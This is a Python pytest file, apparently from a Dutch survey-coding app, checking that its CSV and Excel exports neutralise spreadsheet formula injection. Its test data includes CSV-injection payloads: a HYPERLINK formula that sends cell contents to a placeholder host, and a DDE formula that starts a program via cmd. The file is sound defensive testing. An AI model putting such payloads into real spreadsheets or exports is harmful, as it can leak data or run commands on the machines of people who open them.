"""Formula-safe exports (OWASP, CSV injection): every CSV and Excel download neutralises text that a spreadsheet
would run as a formula, also text typed in the browser; numbers stay numbers."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from access.cells import safe_cell, safe_frame
from codering.export import csv_bytes as coding_csv
from codering.export import report_workbook
from ui.charts import csv_bytes, excel_bytes

PAYLOADS = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1+1)",
            "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_an_apostrophe(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Bladel", "", "R12", "2 + 3", "a=b", None, 5, -2, 3.5, -0.25])
def test_other_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"tekst": PAYLOADS, "aantal": range(-3, len(PAYLOADS) - 3),
                         "bedrag": [-1.5 * i for i in range(len(PAYLOADS))]})


def test_safe_frame_keeps_numbers_numbers() -> None:
    safe = safe_frame(_frame().rename(columns={"tekst": "=kop"}))
    assert list(safe.columns) == ["'=kop", "aantal", "bedrag"]
    assert safe["aantal"].tolist() == [-3, -2, -1, 0, 1, 2, 3] and safe["aantal"].dtype.kind == "i"
    assert safe["bedrag"].dtype.kind == "f"
    assert all(v.startswith("'") for v in safe["'=kop"])


def test_csv_download_is_neutralised() -> None:
    text = csv_bytes(_frame()).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), sep=";", decimal=",", keep_default_na=False)
    assert back["tekst"].tolist() == ["'" + p for p in PAYLOADS]
    assert back["aantal"].tolist() == [-3, -2, -1, 0, 1, 2, 3]  # still numbers (negative ones too)


def _cells(data: bytes) -> list[openpyxl.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_excel_download_has_no_formula() -> None:
    cells = _cells(excel_bytes(_frame()))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.column == 1 and c.row > 1]
    assert texts == ["'" + p.replace("\r", "\n") for p in PAYLOADS]  # XML stores a carriage return as a newline
    assert [c.value for c in cells if c.column == 2 and c.row > 1] == [-3, -2, -1, 0, 1, 2, 3]


def test_coding_report_neutralises_typed_memos_and_reasons() -> None:
    result = pd.DataFrame([{"vraag_nr": 1, "vraag": "=1+1", "positief": 1, "negatief": 0, "neutraal": 0, "n": 1,
                            "niet_gevraagd": 0, **{k: 0.5 for k in ("aandeel_positief", "positief_laag",
                            "positief_hoog", "aandeel_negatief", "negatief_laag", "negatief_hoog",
                            "aandeel_neutraal", "neutraal_laag", "neutraal_hoog", "netto", "p_tekentoets")},
                            "oordeel": "positief"}])
    answers = pd.DataFrame([{"vraag_nr": 1, "respondent_id": "R1", "herkomst": "Gemeente", "antwoord": "@SUM(1+1)",
                             "code": "positief", "bron": "primair", "toelichting": "+SUM(1+1)",
                             "memo": '=HYPERLINK("http://x","klik")'}])
    memos = pd.DataFrame([{"vraag_nr": 1, "auteur": "A", "tekst": "=cmd|' /C calc'!A0", "gewijzigd_op": "t"}])
    cells = _cells(report_workbook(result, answers, memos, "regel", "KIT-pilot"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'@SUM(1+1)", "'+SUM(1+1)", "'=cmd|' /C calc'!A0", "'=1+1"} <= values
    assert 1 in values  # the counts stay numbers
    csv_text = coding_csv(answers).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ";@SUM" not in csv_text
